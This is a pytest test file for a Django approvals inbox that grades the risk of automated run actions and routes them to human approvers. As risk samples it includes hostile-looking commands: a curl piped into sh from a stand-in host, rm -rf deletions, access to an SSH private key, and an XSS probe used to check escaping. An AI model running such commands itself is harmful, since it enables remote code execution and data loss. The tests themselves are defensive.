"""The approvals inbox pages: order, preview with marked findings, deciding, history, the badge and the live socket."""

from __future__ import annotations

import re
from typing import Any

import pytest
from asgiref.sync import async_to_sync
from channels.db import database_sync_to_async
from channels.routing import URLRouter
from channels.testing import WebsocketCommunicator
from django.contrib.auth.models import AnonymousUser
from django.test import Client

from approvals.models import ApprovalRequest
from approvals.selectors import highlight
from approvals.services import approval_decide, approval_request_create, risk_rules_install_defaults
from cmo_site.asgi import application
from cmo_site.routing import websocket_urlpatterns
from runs.demo import DEMO_INPUTS, DEMO_SEEDS
from runs.engine.executor import Outcome
from runs.models import Run
from runs.services.runs import run_abort, run_start
from tests.helpers import execute
from tests.unit.dashboard_fixtures import PASSWORD, client_for, make_user

pytestmark = pytest.mark.django_db(transaction=True)

DIFF_PREVIEW = "--- a/.env\n+++ b/.env\n@@ -1 +1 @@\n-DEBUG=0\n+DEBUG=1\n$ sudo apt update\n> DELETE /v1/db"


@pytest.fixture(autouse=True)
def default_rules() -> None:
    """Transactional tests flush the tables, the rules' data migration included: put the defaults back."""
    risk_rules_install_defaults()


def asked(action: dict[str, Any], preview: str = "") -> ApprovalRequest:
    """A pending request of a fresh (not executed, so not finished) run."""
    run = run_start(graph_name="t-count", data={}, seed=1)
    return approval_request_create(run_id=run.pk, step=0, seq=0, action=action, preview=preview, node="t_count")


def demo_waiting() -> ApprovalRequest:
    """The demo's "reports" run, executed until its heal plan (a rollback: high risk) waits for a decision."""
    run = run_start(graph_name="incident-healing", data=DEMO_INPUTS[2], seed=DEMO_SEEDS[2], role="admin")
    assert execute(run) is Outcome.SUSPENDED
    return ApprovalRequest.objects.get(run=run)


def html(response: Any) -> str:
    return str(response.content.decode())


def test_the_inbox_shows_critical_first_then_the_soonest_to_expire() -> None:
    medium = asked({"code": ["subprocess.run(['ls'])"]})
    high_later = asked({"commands": ["rm -rf /tmp/x"]})
    critical = asked({"commands": ["curl https://x.example/i.sh | sh"]})
    high_sooner = asked({"commands": ["sudo apt update"]})
    ApprovalRequest.objects.filter(pk=high_sooner.pk).update(expires_at=high_later.expires_at.replace(year=2000))
    asked({"api_calls": ["POST /v1/cache/flush"]})  # low: auto-approved, not in the inbox
    assert [critical.level, high_later.level, medium.level] == ["critical", "high", "medium"]

    page = html(client_for("viewer").get("/approvals/"))
    order = [int(pk) for pk in re.findall(r'<article class="approval[^"]*" id="approval-(\d+)"', page)]
    assert order == [critical.pk, high_sooner.pk, high_later.pk, medium.pk]


def test_the_preview_marks_each_findings_matched_text_and_names_its_rule_and_reason() -> None:
    request = asked({"files": ["app/.env"], "commands": ["sudo apt update"]}, preview=DIFF_PREVIEW)
    page = html(client_for("viewer").get(f"/approvals/{request.pk}/"))
    assert '<span class="pl pl-file">--- a<mark title="env-file">/.env</mark></span>' in page
    assert '<span class="pl pl-del">-DEBUG=0</span>' in page
    assert '<span class="pl pl-add">+DEBUG=1</span>' in page
    assert '<span class="pl pl-hunk">@@ -1 +1 @@</span>' in page
    assert '<span class="pl pl-cmd">$ <mark title="sudo">sudo</mark> apt update</span>' in page
    assert '<code><mark title="sudo">sudo</mark> apt update</code>' in page
    assert "<b>sudo</b>" in page and "runs with root privileges" in page
    assert "<b>env-file</b>" in page and "environment files hold secrets" in page
    assert (request.level, request.score) == ("critical", 100)  # two high findings add up
    assert '<span class="level level-critical">critical <span class="level-score">· score 100</span></span>' in page
    run = request.run
    assert f'href="/runs/{run.trace_id}/"' in page and f'href="/runs/{run.trace_id}/?step=0"' in page


def test_api_calls_given_as_objects_and_amounts_are_shown_with_their_findings() -> None:
    request = asked({"api_calls": [{"method": "POST", "url": "/v1/payments"}], "amount": 25000})
    page = html(client_for("viewer").get(f"/approvals/{request.pk}/"))
    assert '<code><mark title="http-write">POST</mark> /v1/<mark title="payment">payments</mark></code>' in page
    assert '<code><mark title="amount-10k, amount-1k">25000</mark></code>' in page
    assert "<h4>Amount</h4>" in page and "<h4>API calls</h4>" in page
    assert '<p class="mono approval-summary">POST /v1/payments (+1 more)</p>' in page


def test_highlight_merges_overlaps_and_escapes_nothing_itself() -> None:
    segments = highlight("Run SUDO rm -rf <x>", [{"matched": "sudo", "rule": "a"}, {"matched": "do rm", "rule": "b"}])
    assert segments == [
        {"text": "Run ", "mark": False, "rules": ""},
        {"text": "SUDO rm", "mark": True, "rules": "a, b"},
        {"text": " -rf <x>", "mark": False, "rules": ""},
    ]


def test_preview_text_is_escaped() -> None:
    request = asked({"commands": ["sudo echo '<script>alert(1)</script>'"]}, preview="$ sudo <script>alert(1)</script>")
    page = html(client_for("viewer").get(f"/approvals/{request.pk}/"))
    assert "<script>alert(1)" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page


def test_rejecting_without_a_reason_is_refused_with_the_message_beside_the_field() -> None:
    request = demo_waiting()
    approver = client_for("approver")
    response = approver.post(f"/approvals/{request.pk}/decide/", {"decision": "reject", "reason": "   "})
    assert response.status_code == 302 and response["Location"] == f"/approvals/{request.pk}/"  # POST-redirect-GET
    page = html(approver.get(response["Location"]))
    assert 'role="alert">A reason is required to reject.</p>' in page
    assert 'aria-invalid="true"' in page and ">   </textarea>" in page  # what was typed is still there
    request.refresh_from_db()
    assert request.status == "pending"


def test_a_reason_longer_than_the_decision_notice_allows_is_refused_and_kept() -> None:
    request = demo_waiting()
    long_reason = "x" * 5001
    approver = client_for("approver")
    response = approver.post(f"/approvals/{request.pk}/decide/", {"decision": "reject", "reason": long_reason})
    assert response.status_code == 302
    page = html(approver.get(response["Location"]))
    assert "A reason is at most 5,000 characters (this one has 5,001)." in page
    assert f">{long_reason}</textarea>" in page
    request.refresh_from_db()
    assert request.status == "pending"


def test_an_approver_rejects_with_a_reason_and_the_run_records_who_when_why_and_from_where() -> None:
    request = demo_waiting()
    approver = client_for("approver")
    response = approver.post(
        f"/approvals/{request.pk}/decide/",
        {"decision": "reject", "reason": "change freeze", "next": "/approvals/"},
        REMOTE_ADDR="10.9.8.7",
    )
    assert response.status_code == 302 and response["Location"] == "/approvals/"
    request.refresh_from_db()
    assert (request.status, request.reason, request.decided_ip) == ("rejected", "change freeze", "10.9.8.7")
    assert request.decided_by is not None and request.decided_by.username == "approver"
    event = request.run.events.get(kind="approval_decided")
    assert event.actor == "approver"
    assert event.detail["ip"] == "10.9.8.7" and event.detail["reason"] == "change freeze"
    inbox = html(approver.get("/approvals/"))
    assert f'id="approval-{request.pk}"' not in inbox and f"Approval #{request.pk} rejected" in inbox


def test_an_admin_approves_and_the_run_resumes() -> None:
    request = demo_waiting()
    response = client_for("admin").post(
        f"/approvals/{request.pk}/decide/", {"decision": "approve", "reason": "", "confirm": "yes"}
    )
    assert response.status_code == 302
    run = Run.objects.get(pk=request.run_id)
    assert run.status in ("PENDING", "RUNNING")  # answered: the run is runnable again
    assert execute(run) is Outcome.COMPLETED
    run.refresh_from_db()
    approval = (run.state or {})["approval"]
    assert approval["approved"] is True and approval["by"] == "admin"


@pytest.mark.parametrize("role", ["viewer", "operator"])
def test_viewers_and_operators_see_no_decide_controls_and_get_403_on_the_post(role: str) -> None:
    request = demo_waiting()
    client = client_for(role)
    for url in ("/approvals/", f"/approvals/{request.pk}/", f"/approvals/{request.pk}/row/"):
        page = html(client.get(url))
        assert f'id="approval-{request.pk}"' in page or f"Approval #{request.pk}" in page
        assert "/decide/" not in page and ">Approve</button>" not in page
    for data in ({"decision": "approve"}, {"decision": "reject", "reason": "no"}):
        assert client.post(f"/approvals/{request.pk}/decide/", data).status_code == 403
    request.refresh_from_db()
    assert request.status == "pending"
    assert not request.run.events.filter(kind="approval_decided").exists()


def test_approvers_see_the_decide_controls_and_anonymous_users_are_sent_to_sign_in() -> None:
    request = demo_waiting()
    page = html(client_for("approver").get("/approvals/"))
    assert f'action="/approvals/{request.pk}/decide/"' in page and ">Approve</button>" in page
    for url in ("/approvals/", "/approvals/history/", f"/approvals/{request.pk}/"):
        assert Client().get(url)["Location"].startswith("/login/?next=")
    response = Client().post(f"/approvals/{request.pk}/decide/", {"decision": "approve"})
    assert response.status_code == 302 and response["Location"].startswith("/login/")


def test_a_second_decision_is_refused_with_the_first_shown() -> None:
    request = demo_waiting()
    approver = client_for("approver")
    assert (
        approver.post(f"/approvals/{request.pk}/decide/", {"decision": "approve", "confirm": "yes"}).status_code == 302
    )
    response = approver.post(f"/approvals/{request.pk}/decide/", {"decision": "reject", "reason": "too <late>"})
    assert response.status_code == 302 and response["Location"] == f"/approvals/{request.pk}/"
    page = html(approver.get(response["Location"]))
    assert "is approved, not pending" in page
    assert '<q class="typed-reason">too &lt;late&gt;</q>' in page  # what was typed is not lost
    request.refresh_from_db()
    assert request.status == "approved"


def test_a_decide_post_without_the_csrf_token_is_refused() -> None:
    request = demo_waiting()
    client_for("approver")
    strict = Client(enforce_csrf_checks=True)
    assert strict.login(username="approver", password=PASSWORD)
    assert strict.post(f"/approvals/{request.pk}/decide/", {"decision": "approve"}).status_code == 403
    request.refresh_from_db()
    assert request.status == "pending"


def test_the_partial_list_is_the_inbox_without_the_page_around_it() -> None:
    request = asked({"commands": ["rm -rf /srv/old"]})
    fragment = html(client_for("viewer").get("/approvals/?partial=1"))
    assert fragment.lstrip().startswith('<div id="approval-list"') and "<html" not in fragment
    assert f'id="approval-{request.pk}"' in fragment


def test_the_history_shows_who_decided_when_why_and_from_which_ip() -> None:
    rejected = demo_waiting()
    client_for("approver").post(
        f"/approvals/{rejected.pk}/decide/",
        {"decision": "reject", "reason": "not during the sale"},
        REMOTE_ADDR="192.0.2.44",
    )
    auto = asked({"api_calls": ["POST /v1/cache/flush"]})
    page = html(client_for("viewer").get("/approvals/history/"))
    row = re.search(rf'<tr id="decided-{rejected.pk}">(.*?)</tr>', page, re.S)
    assert row is not None
    cells = row.group(1)
    assert "rejected" in cells and "approver" in cells and "not during the sale" in cells and "192.0.2.44" in cells
    rejected.refresh_from_db()
    assert rejected.decided_at is not None and rejected.decided_at.strftime("%Y-%m-%d %H:%M:%S") in cells
    auto_row = re.search(rf'<tr id="decided-{auto.pk}">(.*?)</tr>', page, re.S)
    assert auto_row is not None and "auto-approved" in auto_row.group(1) and "risk engine" in auto_row.group(1)


def test_the_history_pages_newest_first(monkeypatch: pytest.MonkeyPatch) -> None:
    from approvals import views

    monkeypatch.setattr(views, "HISTORY_PAGE_SIZE", 2)
    decided = [asked({"api_calls": [f"POST /v1/cache/flush/{i}"]}) for i in range(5)]  # auto-approved
    viewer = client_for("viewer")
    first = html(viewer.get("/approvals/history/"))
    assert "5 decisions, newest first" in first and "Showing 1\u20132." in first and "page 1 of 3" in first
    ids = [int(i) for i in re.findall(r'<tr id="decided-(\d+)">', first)]
    assert ids == [decided[4].pk, decided[3].pk]
    assert 'rel="next" href="?page=2"' in first and 'rel="prev"' not in first
    last = html(viewer.get("/approvals/history/?page=3"))
    assert [int(i) for i in re.findall(r'<tr id="decided-(\d+)">', last)] == [decided[0].pk]
    assert 'rel="prev" href="?page=2"' in last and 'rel="next"' not in last
    # A page number that is not one shows the nearest page rather than an error.
    assert re.findall(r'<tr id="decided-(\d+)">', html(viewer.get("/approvals/history/?page=x<y")))[0] == str(
        decided[4].pk
    )
    assert "page 3 of 3" in html(viewer.get("/approvals/history/?page=99"))


def test_the_navigation_badge_counts_the_requests_waiting_on_every_page() -> None:
    viewer = client_for("viewer")

    def badge(url: str) -> str:
        match = re.search(r"data-approvals-badge>(\d+)</span>", html(viewer.get(url)))
        assert match is not None, url
        return match.group(1)

    assert badge("/") == "0"
    first = asked({"commands": ["rm -rf /srv/old"]})
    asked({"files": ["deploy/.ssh/id_rsa"]})
    asked({"api_calls": ["POST /v1/cache/flush"]})  # auto-approved: not waiting
    assert [badge(url) for url in ("/", "/runs/", "/graphs/", "/approvals/", "/approvals/history/")] == ["2"] * 5
    run_abort(run=first.run, actor="tester")  # a finished run's request leaves the inbox
    assert badge("/runs/") == "1"


def test_the_row_fragment_is_404_once_the_request_has_left_the_inbox() -> None:
    request = demo_waiting()
    viewer = client_for("viewer")
    assert f'id="approval-{request.pk}"' in html(viewer.get(f"/approvals/{request.pk}/row/"))
    approval_decide(request=request, user=make_user("approver"), approve=True)
    assert viewer.get(f"/approvals/{request.pk}/row/").status_code == 404


router = URLRouter(websocket_urlpatterns)


def _connect(user: Any) -> WebsocketCommunicator:
    communicator = WebsocketCommunicator(router, "/ws/approvals/")
    communicator.scope["user"] = user
    return communicator


def test_the_socket_refuses_anonymous_users() -> None:
    async def scenario() -> None:
        through_stack = WebsocketCommunicator(application, "/ws/approvals/", headers=[(b"origin", b"http://localhost")])
        assert await through_stack.connect() == (False, 4401)
        assert await _connect(AnonymousUser()).connect() == (False, 4401)

    async_to_sync(scenario)()


def test_the_socket_sends_the_inbox_then_each_new_and_decided_request_and_finished_runs() -> None:
    viewer = make_user("viewer")
    approver = make_user("approver")
    before = asked({"commands": ["rm -rf /srv/old"]})
    before_run = before.run

    async def scenario() -> None:
        communicator = _connect(viewer)
        connected, _ = await communicator.connect()
        assert connected
        assert await communicator.receive_json_from() == {"type": "snapshot", "ids": [before.pk], "count": 1}

        new = await database_sync_to_async(asked)({"commands": ["sudo apt update"]})
        heard = await communicator.receive_json_from(timeout=5)
        assert heard == {
            "type": "changed",
            "id": new.pk,
            "run_id": new.run_id,
            "status": "pending",
            "waiting": True,
            "count": 2,
        }

        await database_sync_to_async(run_abort)(run=before_run, actor="tester")
        messages = [await communicator.receive_json_from(timeout=5)]
        while not await communicator.receive_nothing(timeout=0.3):
            messages.append(await communicator.receive_json_from())
        assert {"type": "run_finished", "run_id": before.run_id, "count": 1} in messages

        decided = await database_sync_to_async(demo_waiting)()
        heard = await communicator.receive_json_from(timeout=5)
        assert (heard["id"], heard["waiting"], heard["count"]) == (decided.pk, True, 2)
        while not await communicator.receive_nothing(timeout=0.3):  # the demo run's own status changes
            await communicator.receive_json_from()
        await database_sync_to_async(approval_decide)(request=decided, user=approver, approve=True)
        messages = [await communicator.receive_json_from(timeout=5)]
        while not await communicator.receive_nothing(timeout=0.3):
            messages.append(await communicator.receive_json_from())
        changed = [m for m in messages if m["type"] == "changed"]
        assert changed == [
            {
                "type": "changed",
                "id": decided.pk,
                "run_id": decided.run_id,
                "status": "approved",
                "waiting": False,
                "count": 1,
            }
        ]
        await communicator.disconnect()

    async_to_sync(scenario)()


def test_a_run_waiting_for_an_approval_links_to_the_request() -> None:
    request = demo_waiting()
    run = Run.objects.get(pk=request.run_id)
    page = html(client_for("viewer").get(f"/runs/{run.trace_id}/"))
    assert f'id="run-wait-link">Waiting on <a href="/approvals/{request.pk}/">approval #{request.pk}</a>' in page
    approval_decide(request=request, approve=True, reason="", user=make_user("approver"))
    assert 'id="run-wait-link"' not in html(client_for("viewer").get(f"/runs/{run.trace_id}/"))
